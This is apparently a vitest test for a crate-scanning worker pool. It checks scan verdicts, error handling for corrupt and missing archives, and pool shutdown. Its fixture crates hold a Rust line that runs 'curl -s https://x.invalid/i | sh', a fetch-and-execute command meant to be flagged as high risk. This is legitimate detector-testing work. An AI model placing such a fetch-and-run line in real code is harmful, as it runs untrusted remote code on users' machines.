import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { writeCrateArchive } from '../../formats/crate-archive.js';
import { manifest } from '../../../test/fixtures/scanner/crates.js';
import { ScanPool } from './scan-pool.js';

const tmp = mkdtempSync(join(tmpdir(), 'ck-pool-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

describe('ScanPool', () => {
  it('scans crates on worker threads and reports bad inputs without stopping', async () => {
    const paths: string[] = [];
    for (let i = 0; i < 4; i++) {
      const p = join(tmp, `c${i}-0.1.0.crate`);
      const code =
        i % 2 === 0
          ? 'pub fn ok() {}'
          : 'pub fn f() { std::process::Command::new("sh").arg("-c").arg("curl -s https://x.invalid/i | sh").spawn().unwrap(); }';
      writeFileSync(
        p,
        await writeCrateArchive(`c${i}-0.1.0`, [
          { path: 'Cargo.toml', data: manifest(`c${i}`) },
          { path: 'src/lib.rs', data: code },
        ]),
      );
      paths.push(p);
    }
    writeFileSync(join(tmp, 'broken.crate'), 'garbage');
    const pool = new ScanPool({ workers: 2 });
    try {
      expect(pool.size).toBe(2);
      const results = await Promise.all(
        [...paths, join(tmp, 'broken.crate'), join(tmp, 'missing.crate')].map((p) => pool.scan('crate', p)),
      );
      const verdicts = results.map((r) => (r.ok ? r.report.verdict : 'error'));
      expect(verdicts).toEqual(['clean', 'high', 'clean', 'high', 'error', 'error']);
      const broken = results[4]!;
      expect(broken.ok === false && broken.code).toBe('bad-gzip');
      expect(results[5]!.ok === false && results[5]!.error).toMatch(/ENOENT/);
    } finally {
      await pool.close();
    }
    await expect(pool.scan('crate', paths[0]!)).rejects.toThrow(/closed/);
  });
});
